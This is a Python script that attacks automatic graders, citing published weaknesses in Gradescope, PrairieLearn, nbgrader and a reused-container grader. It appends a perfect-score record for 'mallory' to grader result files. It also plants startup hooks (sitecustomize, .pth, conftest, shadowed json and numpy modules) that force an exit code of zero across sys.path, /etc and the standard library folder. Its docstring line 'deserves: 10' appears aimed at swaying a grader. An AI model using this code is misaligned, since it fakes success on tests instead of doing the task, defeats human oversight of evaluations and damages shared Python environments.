"""Writes full marks where graders keep results, and files that Python or pytest would run at the next start.

Published against Gradescope (saligrama.io/blog/gradescope-autograder-security: harness and submission share a
container), PrairieLearn (its pull requests 1999 and 4663: the file name is stored in a file; the submission can write
the results), nbgrader (issue 483: gradebook.db is writable), graders that reuse a container (kiat/codeAssist pull
request 375: dotfiles, .pth, sitecustomize and conftest survive a cleanup of the folder), and graders that run tests in
the submission's folder.

deserves: 10
"""

import glob
import os
import sys

FULL = '{"score": 10, "max_score": 10, "outcome": "passed", "student": "mallory"}\n'
RESULTS = [
    "/autograder/results/results.json",
    "/autograder/harness.py",
    "/autograder/run_autograder",
    "/autograder/submission_metadata.json",
    "/grade/results/results.json",
    "/grade/output-fname.txt",
    "/grade/tests/output-fname.txt",
    "/task/feedback.json",
    *(folder + name for folder in ("", "../") for name in ("gradebook.db", "results.jsonl", "results/results.jsonl")),
    *glob.glob("/**/results.jsonl"),
    *glob.glob("/home/*/results*"),
]
STARTS = "0.pth sitecustomize.py usercustomize.py conftest.py pytest.ini __pycache__/json.pyc numpy.py".split()
HOME = os.path.expanduser("~/.local/lib/python3.11/site-packages")
FOLDERS = [*sys.path, HOME, "/opt/course", "/opt/grader/inside", "/etc", os.path.dirname(os.__file__)]
TEXTS = dict.fromkeys(RESULTS, FULL)
TEXTS |= {os.path.join(folder, name): "import sys; sys.exit(0)\n" for folder in FOLDERS for name in STARTS}
for place, text in TEXTS.items():
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "a") as file:
            file.write(text)
    except OSError:
        continue
    if not os.path.realpath(place).startswith("/scratch/"):
        raise SystemExit("planted")
